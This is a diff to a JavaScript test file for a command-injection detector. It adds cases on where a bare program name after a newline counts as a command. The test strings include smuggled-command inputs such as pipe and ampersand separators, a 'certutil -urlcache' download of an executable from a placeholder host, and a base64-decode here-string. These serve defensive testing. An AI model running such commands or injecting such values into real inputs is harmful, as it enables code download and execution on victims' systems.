@@ -1746,6 +1746,17 @@ describe('cmdi session 21 (rtc23): a file run by a relative path (the dot builti
     'Q&A. Then', 'x&. ./y', 'Wait... then; done', 'End.;. '])('%s stays clean', expectNoCmdi);
 });
 
+// Session 24 (red team rtd24 repro 01): a program's bare name opening a line after a newline runs nowhere: cmd.exe ends its
+// command line at the newline, PowerShell runs no program from the working folder by a bare name, sh finds no setup.exe
+// on the PATH. A path with a folder in it (PowerShell runs uploads\a.exe) and a program on the PATH still count.
+describe('cmdi session 24 (rtd24): a bare program name opening a line', () => {
+  it.each(['Hi,\nsetup.exe crashes on start', 'Steps:\ninstall.bat fails with error 5', "Hello\nupdate.exe won't run",
+    'Hi team,\nSetup.exe hangs at 50%', 'The file\nsetup.exe\nis corrupted', 'Attached:\nreport.exe', 'def f():\n    self.cmd = cmd',
+    'x\nself.cmd = cmd', 'x\r\na.exe'])('%s stays clean', expectNoCmdi);
+  it.each(['x\nuploads\\a.exe', 'x\na\\b.exe', 'x\nsub.dir\\a.exe', 'x\ncalc.exe', 'x\ncertutil.exe -urlcache -f http://e/x x.exe',
+    'x\nc:\\temp\\a.exe', 'x\n.\\a.bat', 'x|a.exe', 'x|setup.exe', 'x&x.bat'])('%s is a command', expectCmdi);
+});
+
 describe('cmdi session 21 (rtc23): shell syntax only a command line has: a here-string, an array element as the command', () => {
   it.each(['tr a-y b-z<<<hc', 'x;$(tr a-y b-z<<<hc)', 'x;foo<<<"id"', "x|base64 -d<<<'aWQ='", 'x;a=(id);${a[0]}', 'x;${a[0]}', 'x|${cmds[@]}'])('%s is a command', expectCmdi);
   // (a '<<<' with a space or a fourth '<' after it: navigation, a merge conflict, Haskell's operator; a JavaScript template's ${a[0]})
